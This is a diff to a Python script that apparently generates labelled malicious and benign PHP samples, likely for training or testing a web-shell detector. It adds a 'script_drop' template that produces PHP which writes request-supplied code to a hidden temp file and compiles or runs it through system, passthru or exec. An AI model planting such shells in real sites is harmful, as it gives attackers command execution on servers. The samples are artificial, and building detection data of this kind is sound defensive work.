@@ -908,6 +908,38 @@ def t_unknown_key(g):
     return php_file(g, body)
 
 
+def t_script_drop(g):
+    """The request's code written into a program's source (C, Perl, Python,
+    shell, Java), then compiled or interpreted by a command: a shell in
+    another language."""
+    r = g.rng
+    lang = r.choice(["c", "pl", "py", "sh", "java", "rb"])
+    g.transforms.add("drop:" + lang)
+    path, data, cmd, out = g.var(), g.var(), g.var(), g.var()
+    where = r.choice(["/tmp/", "/dev/shm/.", "sys_get_temp_dir() . '/", "__DIR__ . '/"])
+    stem = r.choice(["md5(uniqid())", "mt_rand()", "time()", php_sq(g.ident()[:6])])
+    if where.endswith("'/"):
+        g.stmt("%s = %s' . %s . '.%s';" % (path, where, stem, lang))
+    else:
+        g.stmt("%s = '%s' . %s . '.%s';" % (path, where, stem, lang))
+    src = g.src()
+    if r.random() < 0.3:
+        src = "%s(%s)" % (g.fn("base64_decode"), src)
+    g.stmt("%s = %s;" % (data, src))
+    if r.random() < 0.5:
+        write = "%s(%s, %s);" % (g.fn("file_put_contents"), path, data)
+    else:
+        h = g.var()
+        write = "%s = %s(%s, 'w');\n%s(%s, %s);\nfclose(%s);" % (h, g.fn("fopen"), path, g.fn(r.choice(["fwrite", "fputs"])), h, data, h)
+    run = {"c": "'gcc ' . %s . ' -o /tmp/.b && /tmp/.b'" % path, "pl": "'perl ' . %s" % path,
+           "py": "'python3 ' . %s" % path, "sh": "'/bin/sh ' . %s" % path,
+           "java": "'java ' . %s" % path, "rb": "'nohup ruby ' . %s . ' &'" % path}[lang]
+    sink = r.choice(["system", "passthru", "shell_exec", "exec"])
+    body = "%s\n%s = %s;\n%s%s(%s . ' 2>&1');" % (write, cmd, run, "echo " if sink in ("shell_exec", "exec") else "",
+                                                 g.fn(sink), cmd)
+    return php_file(g, body)
+
+
 # ---------------------------------------------------------------------------
 # benign templates: look like the malicious ones to a byte pattern
 
@@ -1072,8 +1104,13 @@ def b_app_callbacks(g):
     functions that are PHP's own string functions, an error handler that
     logs, loops over rows and lines, a command helper that checks exec()."""
     r = g.rng
-    form = r.randrange(4)
-    if form == 0:
+    form = r.randrange(5)
+    if form == 4:
+        body = ("$notes = trim((string) $_POST['notes']);\n"
+                "file_put_contents(__DIR__ . '/data/notes.txt', $notes . \"\\n\", FILE_APPEND | LOCK_EX);\n"
+                "file_put_contents('/tmp/app-build.sh', \"#!/bin/sh\\nset -e\\nmake -C \" . escapeshellarg(__DIR__) . \"\\n\");\n"
+                "exec('/bin/sh /tmp/app-build.sh', $out, $rc);\n")
+    elif form == 0:
         body = ("class Collection\n{\n    private $items;\n    public function __construct(array $items) { $this->items = $items; }\n"
                 "    public function cmp($a, $b) { return strcmp($a['name'], $b['name']); }\n"
                 "    public function sorted()\n    {\n        $o = new ArrayObject($this->items);\n"
@@ -1136,6 +1173,7 @@ TEMPLATES = [
     ("cmd_wrapper", t_cmd_wrapper, "malicious", "php", "any"),
     ("branch_default", t_branch_default, "malicious", "php", "high"),
     ("unknown_key", t_unknown_key, "malicious", "php", "high"),
+    ("script_drop", t_script_drop, "malicious", "php", "high"),
     ("fixed_exec", b_fixed_exec, "benign", "php", "none"),
     ("template_eval", b_template_eval, "benign", "php", "none"),
     ("updater", b_updater, "benign", "php", "none"),
